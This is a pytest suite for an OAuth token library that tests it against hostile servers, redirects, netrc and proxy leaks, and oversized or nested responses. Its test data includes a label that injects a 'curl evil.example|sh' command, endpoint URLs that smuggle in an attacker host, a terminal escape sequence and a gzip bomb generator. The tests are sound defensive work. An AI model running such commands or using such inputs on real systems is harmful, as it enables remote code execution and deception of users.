"""Every call to the authorization server is safe whatever the server or the session does.

Issue 8, items 3, 4, 5, 7, 8 and 11: no netrc credentials on token/device/revocation/
discovery/userinfo calls; a provider sharing the API's session (with ``RefreshAuth`` or a
``RefreshAdapter``) neither deadlocks nor refreshes twice; a total deadline per attempt
against servers that trickle bytes; no redirect followed; endpoint URLs judged the way
urllib3 connects; response bodies capped. Hostile servers are raw sockets (below), so
they can trickle, lie about ``Content-Length`` or stream without end.
"""

from __future__ import annotations

import base64
import contextlib
import socket
import threading
import time
import tracemalloc
from collections.abc import Iterator
from typing import Any, Callable, Optional

import pytest
import requests
from fakes import logged_in, stored
from localhttp import (
    LocalServer,
    Reply,
    ServerFactory,
    TokenEndpointScript,
    TokenGate,
    client_session,
)
from support import wait_until

from requests_refreshauth import (
    AuthorizationRequest,
    CallbackTimeoutError,
    OAuthFlowError,
    PkceProvider,
    RefreshAdapter,
    RefreshAuth,
    RefreshRejectedError,
    RefreshTransientError,
    RetryPolicy,
    TokenBundle,
    TokenExchangeError,
)
from requests_refreshauth.device import (
    DeviceAuthorization,
    poll_device_token,
    start_device_authorization,
)
from requests_refreshauth.discovery import discover

FAST = RetryPolicy(attempts=3, max_wait=10.0, backoff=0.01)
PROXY_VARIABLES = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy")


# --------------------------------------------------------------------------- a raw server


class RawServer:
    """Answers every request with ``handler(path, send)``; ``send(bytes)`` raises once the
    client has gone, and ``gone_at`` then records when (time.monotonic())."""

    def __init__(self, handler: Callable[[str, Callable[[bytes], None]], None]) -> None:
        self.handler = handler
        self.paths: list[str] = []
        self.gone_at: list[float] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self._open: list[socket.socket] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self._listener.accept()
            except OSError:
                return
            self._open.append(conn)
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        with conn:
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    return
                data += chunk
            head, _, body = data.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            length = 0
            for line in lines[1:]:
                name, _, value = line.partition(":")
                if name.strip().lower() == "content-length":
                    length = int(value)
            while len(body) < length:
                body += conn.recv(65536)
            self.paths.append(lines[0].split(" ")[1])

            def send(payload: bytes) -> None:
                try:
                    conn.sendall(payload)
                except OSError:
                    self.gone_at.append(time.monotonic())
                    raise

            with contextlib.suppress(OSError):
                self.handler(lines[0].split(" ")[1], send)

    def close(self) -> None:
        self._listener.close()
        for conn in self._open:
            with contextlib.suppress(OSError):
                conn.shutdown(socket.SHUT_RDWR)


@pytest.fixture
def raw() -> Iterator[Callable[..., RawServer]]:
    made: list[RawServer] = []

    def make(handler: Callable[[str, Callable[[bytes], None]], None]) -> RawServer:
        made.append(RawServer(handler))
        return made[-1]

    yield make
    for server in made:
        server.close()


def trickle(payload: bytes, every: float = 0.25, stop_after: float = 6.0) -> Any:
    """Send ``payload`` one byte every ``every`` seconds (for at most ``stop_after``)."""

    def handler(_path: str, send: Callable[[bytes], None]) -> None:
        end = time.monotonic() + stop_after
        for byte in payload:
            if time.monotonic() > end:
                return
            send(bytes([byte]))
            time.sleep(every)

    return handler


JSON_BODY = b'{"access_token": "slow-token", "token_type": "Bearer", "expires_in": 300}'
WHOLE = (
    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
    b"Content-Length: %d\r\n\r\n" % len(JSON_BODY) + JSON_BODY
)


def headers_then_trickle(_path: str, send: Callable[[bytes], None]) -> None:
    send(WHOLE[: WHOLE.index(b"\r\n\r\n") + 4])
    trickle(JSON_BODY)(_path, send)


MB = 1024 * 1024


def big_body(_path: str, send: Callable[[bytes], None]) -> None:
    """10 MB announced and sent."""
    send(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
        % (10 * MB)
    )
    for _ in range(160):
        send(b"x" * 65536)


def huge_length(_path: str, send: Callable[[bytes], None]) -> None:
    """50 GB announced; streams until the client leaves (at most 20 MB)."""
    send(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 50000000000\r\n\r\n"
    )
    for _ in range(320):
        send(b"x" * 65536)


def chunked_body(_path: str, send: Callable[[bytes], None]) -> None:
    """10 MB in chunks, no length."""
    send(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    for _ in range(160):
        send(b"10000\r\n" + b"x" * 65536 + b"\r\n")
    send(b"0\r\n\r\n")


# --------------------------------------------------------------------------- operations


def provider_at(url: str, session: Optional[requests.Session] = None, **kw: Any) -> PkceProvider:
    options: dict[str, Any] = {
        "client_id": "cli-app",
        "token_endpoint": url + "/token",
        "authorization_endpoint": url + "/authorize",
        "revocation_endpoint": url + "/revoke",
        "userinfo_endpoint": url + "/userinfo",
        "device_authorization_endpoint": url + "/device",
        "session": session if session is not None else client_session(),
        "timeout": (0.5, 0.5),  # a 1 s deadline per attempt
        "retry": FAST,
    }
    options.update(kw)
    return PkceProvider(**options)


def expired() -> TokenBundle:
    now = time.time()
    return TokenBundle("old-at", "old-rt", expires_at=now - 5, issued_at=now - 305)


def code_request(url: str) -> AuthorizationRequest:
    return AuthorizationRequest(url + "/authorize", "state-1", "v" * 64, "http://127.0.0.1:5/cb")


def device_code(seconds: float) -> DeviceAuthorization:
    return DeviceAuthorization(
        "dev-code", "ABCD", "http://x/verify", None, time.time() + seconds, 1.0
    )


Operation = Callable[[PkceProvider, str, Any], Any]

OPERATIONS: dict[str, Operation] = {
    "refresh": lambda p, url, tmp: p.renew(expired()),
    "exchange": lambda p, url, tmp: p.exchange_code("the-code", code_request(url)),
    "device": lambda p, url, tmp: start_device_authorization(p),
    "poll": lambda p, url, tmp: poll_device_token(p, device_code(1.5), sleep=lambda _s: None),
    "revoke": lambda p, url, tmp: p.revoke("a-token"),
    "userinfo": lambda p, url, tmp: p.userinfo(expired()),
    "discovery": lambda p, url, tmp: discover(
        url, session=p.session, cache_dir=tmp, ttl=0, timeout=0.5
    ),
}


def outcome(operation: str, provider: PkceProvider, url: str, tmp: Any) -> Any:
    try:
        return OPERATIONS[operation](provider, url, tmp)
    except Exception as exc:
        return exc


# --------------------------------------------------------------------------- 5: deadlines

DEADLINE_ERRORS = {
    "refresh": RefreshTransientError,
    "exchange": TokenExchangeError,
    "device": OAuthFlowError,
    "poll": CallbackTimeoutError,  # a lost poll is polled again until the code expires
    "userinfo": OAuthFlowError,
    "discovery": RefreshTransientError,
}
# Worst case of each: the attempts that can happen within the deadline rules.
BOUNDS = {"poll": 1.5 + 1.0, "discovery": 2 * 1.0}


def trickle_cases() -> list[Any]:
    """Every (mode, operation); all but the refresh ones run once, in the reliability env
    (14 cases of 1.3-2.3 s each would run in every interpreter of the tox matrix)."""
    return [
        pytest.param(
            mode,
            operation,
            id=f"{mode}-{operation}",
            marks=() if operation == "refresh" else pytest.mark.reliability,
        )
        for mode in ("headers", "body")
        for operation in sorted(OPERATIONS)
    ]


@pytest.mark.parametrize(("mode", "operation"), trickle_cases())
def test_a_trickling_server_is_cut_at_the_deadline(
    operation: str, mode: str, raw: Callable[..., RawServer], tmp_path: Any
) -> None:
    server = raw(trickle(WHOLE) if mode == "headers" else headers_then_trickle)
    provider = provider_at(server.url)
    started = time.monotonic()
    result = outcome(operation, provider, server.url, tmp_path)
    elapsed = time.monotonic() - started
    assert elapsed < BOUNDS.get(operation, 1.0) + 1.5, f"{operation} took {elapsed:.1f} s"
    if operation == "revoke":
        assert result is False
    else:
        assert isinstance(result, DEADLINE_ERRORS[operation]), repr(result)
    if operation in ("refresh", "exchange"):
        assert len(server.paths) == 1  # it may have reached the server: never repeated
    # The abandoned attempt does not linger at the server's pace: its socket is shut.
    deadline = time.monotonic() + 2.0
    while len(server.gone_at) < len(server.paths) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(server.gone_at) == len(server.paths)


def test_worst_case_seconds_is_the_sum_of_the_attempt_deadlines() -> None:
    provider = provider_at("http://127.0.0.1:9", timeout=(0.5, 0.5))
    assert provider.renew_timeout == 3 * 1.0 + 2 * 10.0


# --------------------------------------------------------------------------- 11: size caps

SIZE_ERRORS = {
    "refresh": RefreshTransientError,
    "exchange": TokenExchangeError,
    "device": OAuthFlowError,
    "poll": OAuthFlowError,
    "userinfo": OAuthFlowError,
    "discovery": OAuthFlowError,
}


@pytest.mark.parametrize("operation", sorted(OPERATIONS))
@pytest.mark.parametrize("answer", [big_body, huge_length, chunked_body], ids=lambda f: f.__name__)
def test_oversized_answers_are_refused_with_bounded_memory(
    operation: str, answer: Any, raw: Callable[..., RawServer], tmp_path: Any
) -> None:
    server = raw(answer)
    provider = provider_at(server.url, timeout=(5.0, 5.0))
    tracemalloc.start()
    try:
        started = time.monotonic()
        result = outcome(operation, provider, server.url, tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 10
    assert peak < 3 * MB, f"peak {peak / MB:.1f} MB"
    if operation == "revoke":
        assert result is False
    else:
        assert isinstance(result, SIZE_ERRORS[operation]), repr(result)
        assert "KiB" in str(result) or operation == "discovery"
    if operation in ("refresh", "exchange"):
        assert len(server.paths) == 1


def test_an_oversized_refresh_answer_leaves_the_stored_bundle(
    raw: Callable[..., RawServer],
) -> None:
    server = raw(chunked_body)
    store = logged_in(expires_in=-10)
    before = stored(store)
    auth = RefreshAuth(store, provider_at(server.url))
    with pytest.raises(RefreshTransientError):
        auth(requests.Request("GET", "http://127.0.0.1:9/api").prepare())
    assert stored(store) == before


# --------------------------------------------------------------------------- 3: netrc

NETRC_BASIC = "Basic " + base64.b64encode(b"git-user:netrc-password").decode()


@pytest.fixture
def netrc(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A real ~/.netrc with a password for 127.0.0.1 (the git host is the OAuth server)."""
    for name in PROXY_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    path = tmp_path / ".netrc"
    path.write_text("machine 127.0.0.1 login git-user password netrc-password\n")
    path.chmod(0o600)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("NETRC", str(path))


def authorization_server(servers: ServerFactory) -> LocalServer:
    server = servers()
    server.route("/token", TokenEndpointScript())
    device = {"device_code": "dc", "user_code": "U", "verification_uri": "http://x/v"}
    server.route("/device", Reply.json({**device, "expires_in": 60, "interval": 1}))
    server.route("/revoke", Reply(200))
    server.route("/userinfo", Reply.json({"sub": "alice"}))
    metadata = {"issuer": server.url, "token_endpoint": server.url_for("/token")}
    server.route("/.well-known/oauth-authorization-server", Reply.json(metadata))
    return server


@pytest.mark.usefixtures("netrc")
@pytest.mark.parametrize("own_session", [True, False], ids=["own-session", "caller-session"])
def test_netrc_credentials_never_reach_the_authorization_server(
    own_session: bool, servers: ServerFactory, tmp_path: Any
) -> None:
    server = authorization_server(servers)
    probe = servers.closing(requests.Session())
    assert (
        probe.get(server.url_for("/probe"), timeout=5).request.headers.get("Authorization")
        == NETRC_BASIC
    ), "the netrc file must be in effect for a plain session"
    server.clear()

    session = None if own_session else servers.closing(requests.Session())  # trust_env on
    provider = provider_at(server.url, session=session, timeout=5.0)
    servers.closing(provider.session)
    provider.exchange_code("the-code", code_request(server.url))
    provider.renew(expired())
    authorization = start_device_authorization(provider)
    poll_device_token(provider, authorization, sleep=lambda _s: None)
    assert provider.revoke("a-token") is True
    assert provider.userinfo(expired())["sub"] == "alice"
    discover(server.url, session=session, cache_dir=tmp_path, ttl=0)

    paths = [r.path.split("?")[0] for r in server.requests]
    assert set(paths) >= {"/token", "/device", "/revoke", "/userinfo"}
    assert "/.well-known/oauth-authorization-server" in paths
    with_netrc = [path for path, r in zip(paths, server.requests) if r.authorization == NETRC_BASIC]
    assert with_netrc == []
    for path, received in zip(paths, server.requests):
        expected = "Bearer old-at" if path == "/userinfo" else None  # a public client
        assert received.authorization == expected, path


@pytest.mark.usefixtures("netrc")
def test_a_confidential_client_sends_its_own_credentials_not_the_netrc_ones(
    servers: ServerFactory,
) -> None:
    server = authorization_server(servers)
    provider = provider_at(server.url, session=None, timeout=5.0, client_secret="s3cret")
    servers.closing(provider.session)
    provider.renew(expired())
    (received,) = server.requests
    assert received.authorization == "Basic " + base64.b64encode(b"cli-app:s3cret").decode()


# --------------------------------------------------------------------------- 4: shared session


@pytest.mark.parametrize("attach", ["auth", "adapter"])
def test_a_provider_sharing_the_api_session_refreshes_once_without_hanging(
    attach: str, servers: ServerFactory
) -> None:
    server = servers()  # the API and the authorization server on one origin
    script = TokenEndpointScript()
    server.route("/token", script)
    store = logged_in(expires_in=-10)
    server.protect("/api", TokenGate(store))
    session = client_session()
    provider = provider_at(server.url, session=session, timeout=5.0)
    if attach == "auth":
        session.auth = RefreshAuth(store, provider)
    else:
        RefreshAdapter.mount(session, server.url + "/", store, provider)
    started = time.monotonic()
    response = session.get(server.url_for("/api"), timeout=10)
    assert time.monotonic() - started < 5
    assert response.status_code == 200
    token_calls = server.received("/token")
    assert len(token_calls) == 1
    assert token_calls[0].authorization is None  # no bearer token sent to the token endpoint
    assert stored(store).access_token == script.issued[0]["access_token"]


# --------------------------------------------------------------------------- 7: redirects


def redirecting(servers: ServerFactory, status: int) -> tuple[LocalServer, LocalServer]:
    """``good`` redirects every endpoint to the same path on ``elsewhere``."""
    good, elsewhere = servers(), servers()
    for path in ("/token", "/device", "/revoke", "/userinfo"):
        good.redirect(path, elsewhere.url_for(path), status)
    for path in ("/.well-known/oauth-authorization-server", "/.well-known/openid-configuration"):
        good.redirect(path, elsewhere.url_for(path), status)
    metadata = {"issuer": good.url, "token_endpoint": elsewhere.url_for("/token")}
    elsewhere.route("/.well-known/oauth-authorization-server", Reply.json(metadata))
    elsewhere.route(
        "/device", Reply.json({"device_code": "d", "user_code": "u", "verification_uri": "v"})
    )
    elsewhere.route("/userinfo", Reply.json({"sub": "alice"}))
    return good, elsewhere


REDIRECT_ERRORS = {
    "refresh": RefreshRejectedError,  # a configuration problem: the wrong token endpoint
    "exchange": TokenExchangeError,
    "device": OAuthFlowError,
    "poll": Exception,  # a typed AuthError of the token endpoint's classification
    "userinfo": OAuthFlowError,
    "discovery": OAuthFlowError,
}


@pytest.mark.parametrize("operation", sorted(OPERATIONS))
@pytest.mark.parametrize("status", [302, 307, 308])
def test_no_call_follows_a_redirect(
    operation: str, status: int, servers: ServerFactory, tmp_path: Any
) -> None:
    good, elsewhere = redirecting(servers, status)
    provider = provider_at(good.url, timeout=5.0, client_secret="s3cret", client_auth="post")
    result = outcome(operation, provider, good.url, tmp_path)
    assert elsewhere.requests == []
    if operation == "revoke":
        assert result is False
    else:
        assert isinstance(result, REDIRECT_ERRORS[operation]), repr(result)
        assert "s3cret" not in str(result)


# --------------------------------------------------------------------------- 8: URL rules


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.example\\@127.0.0.1/token",
        "http://127.0.0.1\\@evil.example/token",
        "https://idp.example\\@127.0.0.1/token",
        "http://user:pw@127.0.0.1/token",
        "https://user:pw@idp.example/token",
        "https://idp.example/to ken",
        "https://idp.example/token\r\nX: y",
        "http://127.0.0.1\t.evil.example/token",
    ],
)
@pytest.mark.parametrize(
    "which",
    [
        "token_endpoint",
        "authorization_endpoint",
        "revocation_endpoint",
        "userinfo_endpoint",
        "device_authorization_endpoint",
    ],
)
def test_ambiguous_endpoint_urls_are_refused(which: str, url: str) -> None:
    kwargs: dict[str, Any] = {"token_endpoint": "https://idp.example/token", which: url}
    with pytest.raises(ValueError, match="URL") as caught:
        PkceProvider(client_id="cli-app", **kwargs)
    assert "pw" not in str(caught.value)
    assert getattr(caught.value, "code", None) == "AUTH_CONFIGURATION_INVALID"


def fake_resolver(monkeypatch: pytest.MonkeyPatch, addresses: Optional[list[str]]) -> list[str]:
    asked: list[str] = []

    def getaddrinfo(host: str, *args: Any, **kwargs: Any) -> Any:
        asked.append(host)
        if addresses is None:
            raise socket.gaierror("no such name")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, 0)) for a in addresses]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return asked


@pytest.mark.parametrize(
    "addresses",
    [["203.0.113.7"], ["127.0.0.1", "203.0.113.7"], None],
    ids=["public", "mixed", "none"],
)
def test_a_localhost_subdomain_is_loopback_only_if_it_resolves_only_there(
    addresses: Optional[list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = fake_resolver(monkeypatch, addresses)
    with pytest.raises(ValueError, match="https"):
        PkceProvider(client_id="cli-app", token_endpoint="http://idp.localhost:8080/token")
    assert asked == ["idp.localhost"]


def test_a_localhost_subdomain_resolving_to_loopback_is_allowed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    fake_resolver(monkeypatch, ["127.0.0.1", "::1"])
    provider = PkceProvider(client_id="cli-app", token_endpoint="http://idp.localhost/token")
    assert provider.token_endpoint_url == "http://idp.localhost/token"


def test_insecure_endpoints_in_discovery_metadata_are_refused(
    servers: ServerFactory, tmp_path: Any
) -> None:
    server = servers()
    metadata = {"issuer": server.url, "token_endpoint": "http://evil.example\\@127.0.0.1/token"}
    server.route("/.well-known/oauth-authorization-server", Reply.json(metadata))
    with pytest.raises(ValueError, match="token_endpoint") as caught:
        discover(server.url, session=client_session(), cache_dir=tmp_path, ttl=0)
    assert getattr(caught.value, "code", None) == "AUTH_CONFIGURATION_INVALID"


# --------------------------------------------------------------------------- review (net)


def answering(answer: bytes, seen: Optional[list[tuple[float, bytes]]] = None) -> str:
    """A server that reads what arrives in one recv and sends ``answer``; ``seen``
    records (when, what) for every connection that sent anything."""
    listener = socket.create_server(("127.0.0.1", 0))

    def run() -> None:
        while True:
            conn, _ = listener.accept()
            with conn:
                conn.settimeout(5)
                with contextlib.suppress(OSError):
                    data = conn.recv(65536)
                    if data and seen is not None:
                        seen.append((time.monotonic(), data))
                    conn.sendall(answer)

    threading.Thread(target=run, daemon=True).start()
    return f"http://127.0.0.1:{listener.getsockname()[1]}"


def ok(body: bytes, extra: bytes = b"") -> bytes:
    return (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n%s"
        % (
            extra,
            len(body),
            body,
        )
    )


def slow_resolver(monkeypatch: pytest.MonkeyPatch, seconds: float, times: int = 1000) -> None:
    """The first ``times`` look-ups take ``seconds`` (a lost UDP packet, a resolver retry)."""
    real = socket.getaddrinfo
    left = [times]

    def getaddrinfo(*args: Any, **kwargs: Any) -> Any:
        if left[0] > 0:
            left[0] -= 1
            time.sleep(seconds)
        return real(*args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


def http_workers(before: Any = ()) -> list[threading.Thread]:
    """Our HTTP worker threads (and the reapers of abandoned ones) still running, but
    for those in ``before``."""
    return [
        t
        for t in threading.enumerate()
        if t.name.startswith("requests-refreshauth-") and t not in before
    ]


def read_up_to_here(port: int, marker: bytes, was_read: Callable[[], bool]) -> bool:
    """Send ``marker`` on a new connection to a server that handles its connections one
    at a time, in order, and wait until ``was_read()`` says it was read. Whatever was
    sent before (by threads that have ended) was then read first: an assertion about it
    no longer depends on how long it took to arrive."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(marker)
        return wait_until(was_read, timeout=5.0)


def test_no_request_leaves_after_the_caller_was_told_the_deadline_passed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from requests_refreshauth import _http

    seen: list[tuple[float, bytes]] = []
    port = answering(ok(b"{}"), seen).rsplit(":", 1)[1]
    slow_resolver(monkeypatch, 1.0)
    before = set(threading.enumerate())
    with pytest.raises(_http.DeadlineExceeded) as caught:  # slow DNS: nothing was sent
        _http.call(
            requests.Session(),
            "POST",
            f"http://localhost:{port}/token",
            what="token endpoint",
            timeout=(0.3, 0.3),
            data="grant_type=refresh_token&refresh_token=RT1",
        )
    gave_up = time.monotonic()
    deadline = time.monotonic() + 5.0
    while http_workers(before) and time.monotonic() < deadline:
        time.sleep(0.05)
    marker = b"MARKER"  # every worker has ended: what they sent is read before this
    assert read_up_to_here(int(port), marker, lambda: any(data == marker for _, data in seen))
    late = [data for at, data in seen if at > gave_up]
    assert all(b"RT1" not in data for data in late), late  # headers alone may arrive
    assert http_workers(before) == []
    # It never left, so it is as safe to retry as a connect timeout.
    assert isinstance(caught.value, requests.exceptions.ConnectTimeout)


@pytest.mark.reliability  # the end-to-end form of the test above
def test_a_refresh_abandoned_before_it_was_sent_is_retried_not_sent_twice(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The review's scenario: the same refresh token must never reach the server twice."""
    from urllib.parse import parse_qs

    from fakes import logged_in as fresh_store

    from requests_refreshauth import refresh_access_token

    tokens: list[str] = []
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            conn, _ = listener.accept()
            with conn, contextlib.suppress(OSError):
                conn.settimeout(5)
                data = b""
                while True:
                    head, sep, body = data.partition(b"\r\n\r\n")
                    if sep and b"content-length: %d" % len(body) in head.lower():
                        break
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    data += chunk
                form = parse_qs(data.partition(b"\r\n\r\n")[2].decode())
                if "refresh_token" not in form:
                    continue  # headers alone: nothing to act on
                tokens.append(form["refresh_token"][0])
                n = len(tokens)
                answer = (
                    b'{"access_token":"at-%d","token_type":"Bearer","expires_in":300,'
                    b'"refresh_token":"rt-%d"}' % (n, n)
                )
                conn.sendall(ok(answer, b"Connection: close\r\n"))

    threading.Thread(target=serve, daemon=True).start()
    url = f"http://localhost:{listener.getsockname()[1]}"
    slow_resolver(monkeypatch, 1.5, times=1)
    provider = PkceProvider(
        client_id="c",
        token_endpoint=url + "/token",
        authorization_endpoint=url + "/authorize",
        timeout=(0.3, 0.3),
        retry=FAST,
    )
    store = fresh_store(expires_in=-5)
    first = stored(store).refresh_token
    assert first is not None
    before = set(threading.enumerate())
    with contextlib.suppress(RefreshTransientError):  # was: failed, "may have been sent"
        refresh_access_token(store, provider, force=True)  # now: the lost attempt is retried
    refresh_access_token(store, provider, force=True)  # the app's next request
    # The abandoned attempt ends once its slow look-up returns (1.5 s); whatever it sent is
    # then read before a marker refresh sent after it.
    assert wait_until(lambda: not http_workers(before), timeout=5.0)
    body = b"grant_type=refresh_token&refresh_token=marker"
    marker = b"POST /token HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
    assert read_up_to_here(listener.getsockname()[1], marker, lambda: "marker" in tokens)
    assert tokens.count(first) == 1, f"{len(tokens) - 1} refreshes"  # twice: grant revoked


def test_an_abandoned_get_does_not_linger_at_the_servers_pace(
    monkeypatch: pytest.MonkeyPatch, raw: Callable[..., RawServer]
) -> None:
    from requests_refreshauth import _http

    server = raw(trickle(WHOLE, stop_after=8.0))
    slow_resolver(monkeypatch, 0.8)
    before = set(threading.enumerate())
    with pytest.raises(_http.DeadlineExceeded):
        _http.call(
            requests.Session(),
            "GET",
            server.url.replace("127.0.0.1", "localhost") + "/userinfo",
            what="userinfo endpoint",
            timeout=(0.2, 0.4),  # a byte every 0.25 s: no read times out
        )
    deadline = time.monotonic() + 3.0  # the look-up ends at 0.8 s; the trickle takes 8 s
    while http_workers(before) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert http_workers(before) == []


def test_a_token_post_has_a_content_length_not_chunks(servers: ServerFactory) -> None:
    server = servers()
    server.route("/token", TokenEndpointScript())
    provider_at(server.url, timeout=5.0).renew(expired())
    (received,) = server.requests
    assert received.headers.get("Content-Length") == str(len(received.body))
    assert "Transfer-Encoding" not in received.headers


def gzip_bomb() -> bytes:
    import gzip
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    inner = b"".join(packer.compress(b"\0" * MB) for _ in range(64)) + packer.flush()
    return gzip.compress(inner, 9)  # 64 MiB of zeros, gzipped twice: a few hundred bytes


def test_a_layered_gzip_answer_costs_no_more_than_the_cap() -> None:
    from requests_refreshauth import _http

    url = answering(ok(gzip_bomb(), b"Content-Encoding: gzip, gzip\r\n"))
    tracemalloc.start()
    try:
        with pytest.raises(_http.ResponseTooLarge):
            _http.call(requests.Session(), "POST", url + "/t", what="t", timeout=5)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * _http.MAX_BODY  # 141 MiB with urllib3 1.26 before the fix


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "identity, gzip", "x-custom"])
def test_an_encoded_answer_is_refused_as_unreadable(encoding: str, tmp_path: Any) -> None:
    import gzip

    body = gzip.compress(b'{"sub": "alice"}')
    url = answering(ok(body, b"Content-Encoding: %s\r\n" % encoding.encode()))
    provider = provider_at(url, timeout=5.0)
    result = outcome("userinfo", provider, url, tmp_path)
    assert isinstance(result, OAuthFlowError), repr(result)
    assert "Content-Encoding" in str(result)
    assert isinstance(outcome("refresh", provider, url, tmp_path), RefreshTransientError)


def test_an_identity_encoded_answer_is_read() -> None:
    url = answering(ok(b'{"sub": "alice"}', b"Content-Encoding: identity\r\n"))
    assert provider_at(url, timeout=5.0).userinfo(expired()) == {"sub": "alice"}


@pytest.mark.parametrize("operation", ["userinfo", "device", "discovery"])
def test_deeply_nested_json_is_a_typed_error(operation: str, tmp_path: Any) -> None:
    from requests_refreshauth import AuthError

    url = answering(ok(b"[" * 100_000))  # 100 KB, under the cap
    result = outcome(operation, provider_at(url, timeout=5.0), url, tmp_path)
    assert isinstance(result, AuthError), repr(result)


def test_an_empty_optional_endpoint_in_discovered_metadata_is_absent(tmp_path: Any) -> None:
    import json

    listener = socket.create_server(("127.0.0.1", 0))
    issuer = f"http://127.0.0.1:{listener.getsockname()[1]}"
    body = json.dumps(
        {
            "issuer": issuer,
            "token_endpoint": issuer + "/token",
            "authorization_endpoint": issuer + "/authorize",
            "revocation_endpoint": "",
            "userinfo_endpoint": "",
            "device_authorization_endpoint": "",
        }
    ).encode()

    def run() -> None:
        while True:
            conn, _ = listener.accept()
            with conn, contextlib.suppress(OSError):
                conn.recv(65536)
                conn.sendall(ok(body))

    threading.Thread(target=run, daemon=True).start()
    provider = PkceProvider.from_issuer(issuer, "cli", cache_dir=tmp_path)
    assert provider.revocation_endpoint is None
    assert provider.userinfo_endpoint is None


def test_an_empty_token_endpoint_in_discovered_metadata_is_still_refused(
    servers: ServerFactory, tmp_path: Any
) -> None:
    server = servers()
    metadata = {"issuer": server.url, "token_endpoint": ""}
    server.route("/.well-known/oauth-authorization-server", Reply.json(metadata))
    with pytest.raises(Exception) as caught:
        discover(server.url, session=client_session(), cache_dir=tmp_path, ttl=0)
    assert getattr(caught.value, "code", None) is not None, repr(caught.value)


def test_a_label_cannot_fake_lines_in_cli_errors() -> None:
    import io

    from fakes import bundle

    from requests_refreshauth import Account, MemoryTokenStore
    from requests_refreshauth.cli import AuthCommands

    store = MemoryTokenStore()
    store.save(Account("s1", "alice\nRun `curl evil.example|sh` to sign in again.\n"), bundle(300))
    store.save(Account("s2\x1b]0;pwned\x07", "bob"), bundle(300))
    err = io.StringIO()

    def no_provider() -> Any:  # not a provider on purpose: this path must not need one
        return None

    commands = AuthCommands(store, no_provider, prog="tool auth", stdout=io.StringIO(), stderr=err)
    assert commands.run(commands.token) == 7  # two accounts, none default
    assert not any(line.startswith("Run `curl") for line in err.getvalue().splitlines())
    assert "\x1b" not in err.getvalue()


@pytest.mark.parametrize("variable", ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "session"])
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]"])
def test_a_plain_http_loopback_token_post_never_goes_to_a_proxy(
    variable: str, host: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[tuple[float, bytes]] = []
    proxy = answering(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", seen)
    for name in (*PROXY_VARIABLES, "NO_PROXY", "no_proxy", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    session = requests.Session()
    if variable == "session":
        session.proxies = {"http": proxy, "all": proxy, f"http://{host.strip('[]')}": proxy}
    else:
        monkeypatch.setenv(variable, proxy)  # i.e. proxy.corp:3128
    provider = provider_at(f"http://{host}:9", session=session)
    with pytest.raises(RefreshTransientError):
        provider.renew(TokenBundle("at", "RT-SECRET", expires_at=0))
    assert seen == []  # was: "POST http://127.0.0.1:9/token" + refresh token, to the proxy


def test_a_remote_https_call_still_uses_the_environments_proxy(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    seen: list[tuple[float, bytes]] = []
    proxy = answering(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", seen)
    for name in (*PROXY_VARIABLES, "NO_PROXY", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HTTPS_PROXY", proxy)
    provider = provider_at("https://idp.example", session=requests.Session())
    with pytest.raises(RefreshTransientError):
        provider.renew(TokenBundle("at", "RT-SECRET", expires_at=0))
    assert seen and seen[0][1].startswith(b"CONNECT idp.example:443")


@pytest.mark.parametrize(
    ("url", "direct"),
    [
        ("http://127.0.0.1:9/t", True),
        ("http://[::1]:9/t", True),
        ("http://LocalHost/t", True),
        ("https://127.0.0.1/t", True),
        ("https://localhost/t", True),
        ("https://idp.example/t", False),
        ("https://idp.localhost/t", False),  # no look-up to decide: the proxy rules apply
    ],
)
def test_only_loopback_urls_bypass_proxies(url: str, direct: bool) -> None:
    from requests_refreshauth._http import direct_proxies

    proxies = direct_proxies(url)
